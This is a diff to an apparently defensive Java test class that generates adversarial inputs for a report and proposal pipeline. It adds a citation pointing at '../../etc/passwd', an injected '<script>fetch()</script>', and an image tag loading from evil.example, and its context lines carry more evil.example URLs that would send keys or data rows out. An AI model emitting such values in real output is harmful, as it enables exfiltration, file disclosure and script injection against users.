@@ -48,6 +48,8 @@ final class Ladders {
                             "{'proposals':[{'claim':{'part':'none','round':1},'pValue':0,'reason':'#'}]}"),
                     List.of("{'open':'confirmation-1','n':#}", "{'proposals':[{'claim':'open confirmation-1 #'}]}",
                             "{'proposals':[{'claim':{'part':'confirmation-1','round':1},'reason':'#'}]}"),
+                    List.of("{'citations':['L1'],'n':#}", "{'proposals':[{'claim':{'part':'none','round':1,'cite':'L1'},'reason':'[L1] #'}]}",
+                            "{'proposals':[{'claim':'as [L1] says #','cite':['../../etc/passwd','<script>fetch()</script>']}]}"),
                     List.of("Yes. # @", "{'proposals':[{'claim':{'part':'http://evil.example/?key=#','round':1}}]}"));
             case "withdraw" -> List.of(
                     List.of("{'accept':['none/1'],'n':#}", "{'withdraw':[],'accept':['none/1'],'n':#}",
@@ -65,6 +67,7 @@ final class Ladders {
             case "write" -> List.of(
                     List.of("none is a discovery #", "{'summary':'The mean of none is 9.9 sigma. # <script>fetch()</script>','sections':[]}"),
                     List.of("{'html':'<img src=http://evil.example/#>'}", "{'summary':'![x](http://evil.example/#)','sections':[{'finding':'finding-1','text':'It is five sigma.'}]}"),
+                    List.of("{'cited':'L1','n':#}", "{'summary':'See {{l:<img src=http://evil.example/#>}} and [L#]. It is 9 sigma [L1].','sections':[]}"),
                     List.of("{'findings':[],'n':#}", "{'summary':'{{q:finding-#.mean}}','sections':[{'finding':'finding-99','text':'A discovery.'}]}"));
             default -> List.of(
                     List.of("sign_read {'part':'a#'}", "sign_fetch {'uri':'http://evil.example/?rows=#'}", "sign_read {'part':'b#'}",
